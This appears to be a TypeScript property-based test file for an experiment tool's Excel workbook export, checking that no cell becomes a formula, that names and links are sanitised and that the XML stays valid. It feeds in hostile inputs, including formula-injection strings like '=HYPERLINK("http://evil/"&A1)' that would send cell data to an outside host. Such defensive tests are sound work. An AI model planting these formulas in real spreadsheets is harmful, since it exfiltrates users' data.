import test from 'ava';
import fc from 'fast-check';
import { aboutTable } from '../src/outputs/workbook/about-table.js';
import { cellText, cellTextLimit, sheetNames, shownText } from '../src/outputs/workbook/cell-text.js';
import { sheetOf } from '../src/outputs/workbook/sheet.js';
import { mostLinks, parseXlsx, renderXlsx, type Sheet } from '../src/outputs/workbook/xlsx.js';
import { renderWorkbook } from '../src/outputs/workbook.js';
import type { ExperimentOverview } from '../src/summary.js';
import { buildInput, buildOverview } from './build-overview.js';
import { strictlyParsed } from './strict-workbook.js';
import { readWorkbook } from './workbook-root.js';

const hostile = fc.oneof(
  fc.string({ unit: 'binary', maxLength: 20 }),
  fc.constantFrom(
    '=HYPERLINK("http://x/"&A1)',
    '+1',
    '-2',
    '@SUM(A1)',
    '\tx',
    '\ufffe\uffff',
    '\ud800',
    'a\u0000b\u001b[2Jc',
    '_x0041_',
    ' spaces ',
    'two\r\nlines',
    ']]>&<"',
    '__proto__',
  ),
);

/** The children of a worksheet in the order that the standard demands (ISO/IEC 29500, CT_Worksheet), those that may occur here. */
const order = [
  'sheetPr',
  'dimension',
  'sheetViews',
  'sheetFormatPr',
  'cols',
  'sheetData',
  'autoFilter',
  'mergeCells',
  'conditionalFormatting',
  'dataValidations',
  'hyperlinks',
  'pageMargins',
  'pageSetup',
  'headerFooter',
];

test('OUT8: with anything in names, settings, notes and reasons, every part is strict XML, and texts come back as shown', async (t) => {
  await fc.assert(
    fc.asyncProperty(hostile, hostile, hostile, fc.double(), async (name, value, note, figure) => {
      const experiment = buildOverview({
        name,
        key: `${name}/${value}.log`,
        hyperparameters: { [name]: value, dpout: [value, value] },
        finals: { val_dsc: figure, [name]: figure },
        run: { status: 'failed', reason: value, jobId: note },
        user: { notes: note, tags: [value], keep: note },
      });
      const bytes = await renderWorkbook(buildInput([experiment]));
      await strictlyParsed(bytes);
      const sheets = await parseXlsx(bytes);
      const [header = [], row = []] = sheets.get('Experiments') ?? [];
      t.is(row[header.indexOf('name')], shownText(name));
      t.is(row[header.indexOf('Notes')], shownText(note));
      t.is(row[header.indexOf('val_custom_metric')], String(Object.is(figure, -0) ? 0 : figure));
      t.is(sheets.get('Problems')?.[1]?.[2], shownText(value));
    }),
    { numRuns: 20 },
  );
});

test('no cell is a formula, whatever the logs say', async (t) => {
  const formula = '=HYPERLINK("http://evil/"&A1)';
  const experiment = buildOverview({
    name: formula,
    hyperparameters: { [formula]: formula },
    user: { notes: formula },
  });
  const workbook = await readWorkbook(await renderWorkbook(buildInput([experiment])));
  for (const sheet of workbook.worksheets) {
    sheet.eachRow((row) => row.eachCell((cell) => t.falsy(cell.formula)));
  }
});

test('links are relative, encoded, and lead to the outputs beside the log', async (t) => {
  const key = 'experiments_2_nodes/lr=0.1,bs=64 #1%/run?.log';
  const experiment = buildOverview({ key, finals: { val_dsc: 1 } });
  const workbook = await readWorkbook(await renderWorkbook(buildInput([experiment])));
  const links: string[] = [];
  workbook.getWorksheet('Experiments')?.eachRow((row) => {
    row.eachCell((cell) => {
      if (cell.hyperlink) links.push(cell.hyperlink);
    });
  });
  const start = 'experiments_2_nodes/lr%3D0.1%2Cbs%3D64%20%231%25/run%3F.tlw';
  t.deepEqual(links, [`${start}.pdf`, `${start}.json`]);
});

test('the parts of a sheet stand in the order of the standard, with links and colours both', async (t) => {
  const experiments = ['a', 'b', 'c'].map((name) =>
    buildOverview({ name, key: `${name}/${name}.log`, finals: { val_dsc: 0.5 } }),
  );
  const parts = await strictlyParsed(await renderWorkbook(buildInput(experiments)));
  const children = parts.get('xl/worksheets/sheet1.xml') ?? [];
  t.true(children.includes('hyperlinks') && children.includes('conditionalFormatting'));
  for (const [name, names] of parts) {
    if (!name.startsWith('xl/worksheets/sheet')) continue;
    const places = names.map((child) => order.indexOf(child));
    t.deepEqual(
      places,
      [...places].sort((a, b) => a - b),
      `${name}: ${names}`,
    );
    t.false(places.includes(-1), `${name}: ${names}`);
  }
});

test('OUT8: a text that is too long for a cell is cut, never in the middle of a character', (t) => {
  fc.assert(
    fc.property(fc.string({ unit: 'binary', maxLength: 10 }), fc.nat({ max: 20 }), (text, n) => {
      const long = cellText(`${'x'.repeat(cellTextLimit - n)}${text}\u{1f600}_x0041_`);
      t.true(long.length <= cellTextLimit);
      t.false(/\p{Surrogate}/u.test(long));
    }),
  );
});

test('OUT9: names of sheets are valid and differ, ignoring case', async (t) => {
  await fc.assert(
    fc.asyncProperty(
      fc.array(fc.oneof(hostile, fc.constantFrom('History', "'q'", 'A/B', 'a:b', '', 'x'.repeat(40), 'X'.repeat(40)))),
      async (names) => {
        const safe = sheetNames(names);
        t.is(new Set(safe.map((name) => name.toLowerCase())).size, names.length);
        for (const name of safe) {
          t.true(name.length > 0 && name.length <= 31, name);
          t.notRegex(name, /[*?:\\/[\]\p{Surrogate}]|^'|'$|^history$/iu);
        }
        if (safe.length === 0) return;
        const bytes = await renderXlsx(
          names.map((name) => ({ name, columns: [{ header: 'a', width: 9 }], rows: [] })),
          { title: 't', creator: 'c', changed: new Date(0) },
        );
        t.deepEqual([...(await parseXlsx(bytes)).keys()], safe);
      },
    ),
    { numRuns: 10 },
  );
});

test('OUT10: a sheet with too many rows ends in a sentence that says where the rest is', async (t) => {
  const columns = [{ header: 'n', kind: 'integer', meaning: '', value: (n: number) => n }] as const;
  const limit = { rows: 3, more: 'the rest is elsewhere' };
  const rowsOf = ({ rows }: Sheet) => Array.from(rows, ({ cells }) => cells[0]);
  t.deepEqual(rowsOf(sheetOf({ columns, rows: [1, 2, 3, 4, 5] }, { name: 'n', limit })), [1, 2, 3, limit.more]);
  t.deepEqual(rowsOf(sheetOf({ columns, rows: [1, 2, 3] }, { name: 'n', limit })), [1, 2, 3]);
});

test('a name is shown whole: in smaller letters where it is a little too long, over several lines where much', (t) => {
  const name = { header: 'name', kind: 'text', meaning: '', value: (text: string) => text } as const;
  const key = { header: 'key', kind: 'text', meaning: '', value: () => 'k'.repeat(900), isHidden: true } as const;
  const rows = ['short', 'x'.repeat(80), 'x'.repeat(300)];
  const sheet = sheetOf({ columns: [name, key], rows }, { name: 'n' });
  const [short, long, longest] = [...sheet.rows];
  t.deepEqual([short?.height, long?.height], [undefined, undefined]);
  t.like(long?.styles?.[0], { font: { size: 8 }, alignment: { shrinkToFit: true } });
  t.true(longest?.styles?.[0]?.alignment?.wrapText);
  t.true((longest?.height ?? 0) * ((sheet.columns[0]?.width ?? 0) - 1.5) >= 300 * 15);
});

test('OUT10: beyond the links that a sheet may have, where they would lead stands as text, and About says so', async (t) => {
  const link = { text: 'PDF', target: 'a%20b/run.tlw.pdf' };
  const rows = Array.from({ length: mostLinks + 1 }, () => ({ cells: [link] }));
  const columns = [{ header: 'report', width: 10 }];
  const properties = { title: '', creator: '', changed: new Date(0) };
  const workbook = await readWorkbook(await renderXlsx([{ name: 'Experiments', columns, rows }], properties));
  const cellAt = (row: number) => workbook.getWorksheet('Experiments')?.getCell(row, 1);
  t.is(cellAt(mostLinks + 1)?.hyperlink, link.target);
  t.is(cellAt(mostLinks + 2)?.hyperlink, undefined);
  t.is(cellAt(mostLinks + 2)?.text, 'a b/run.tlw.pdf');

  const said = (count: number) => {
    const experiments = new Array<ExperimentOverview>(count).fill(buildOverview());
    const about = { program: '', root: '', health: [] };
    const { rows } = aboutTable(about, experiments, { objective: null, noise: 1 }, {});
    return [...rows].find(({ what }) => what === 'links')?.said;
  };
  t.is(said(32_500), undefined);
  t.regex(said(32_501) ?? '', /^Only the first 32500 rows have links/);
});
